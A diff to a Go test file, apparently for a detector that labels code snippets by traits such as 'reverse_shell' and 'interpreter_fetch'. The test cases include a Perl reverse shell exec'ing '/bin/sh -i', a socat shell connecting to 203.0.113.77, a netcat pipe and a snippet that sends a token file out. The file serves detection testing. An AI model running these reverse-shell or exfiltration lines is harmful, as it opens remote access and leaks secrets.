@@ -53,6 +53,8 @@ func TestCode(t *testing.T) {
 		{"python", "import urllib.request, os, subprocess\nurllib.request.urlretrieve('https://geo.example/db.tgz', '/var/lib/geo/db.tgz')\nos.chmod('/var/lib/geo/db.tgz', 0o644)\nsubprocess.check_call(['systemctl', 'reload', 'nginx'])\n", "interpreter_fetch"},
 		{"python", "import base64, re, requests, subprocess\nT = base64.b64decode(open('/etc/app/token').read())\nx = re.compile('a')\nr = requests.get('https://api.example/v1', headers={'a': T})\nsubprocess.run(['mail', 'ops'], input=r.content)\n", "interpreter_fetch"},
 		{"python", "import base64\n" + library + "def g(x):\n    return base64.b64decode(x)\n" + library + "exec(open('/etc/app.py').read())\n", ""},
+		{"perl", "use Socket;\n" + library + "sub answer { open(STDIN, \"<&SOCK\"); exec($cgi); }\n" + library + "connect(SOCK, $p);\n", ""},
+		{"perl", library + "use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,$p); open(STDIN,\">&S\"); exec(\"/bin/sh -i\");\n" + library, "reverse_shell"},
 		{"perl", "use Socket; socketpair(A, B, AF_UNIX, SOCK_STREAM, PF_UNSPEC); exec('/bin/sh', '-c', 'ls');", ""},
 		{"php", "<?php $r = file_get_contents('https://api.example/v1'); exec('systemctl reload nginx'); $db->exec('SELECT 1');", "interpreter_fetch"},
 	} {
@@ -237,7 +239,7 @@ func TestTraits(t *testing.T) {
 		{"bash -i", ""},
 		{"cat f | nc 203.0.113.77 80", ""},
 		{"socat TCP-LISTEN:80,fork TCP:localhost:8080", ""},
-		{"socat TCP-LISTEN:80,fork SYSTEM:\"sleep 1; echo 'HTTP/1.0 200 OK'; echo 'Content-Length\\: $_len'; echo ''; printf '%s' '$content';\"", ""},
+		{"content=$1; _len=\"$(printf %s \"$content\" | wc -c)\"; socat TCP-LISTEN:80,fork SYSTEM:\"sleep 1; echo 'HTTP/1.0 200 OK'; echo 'Content-Length\\: $_len'; echo ''; printf '%s' '$content';\"", ""},
 		{"socat TCP-LISTEN:8080,fork EXEC:'/bin/cat /srv/status.txt'", ""},
 		{"socat TCP:203.0.113.77:80 SYSTEM:'echo $(sh)'", "reverse_shell"},
 		// history_off
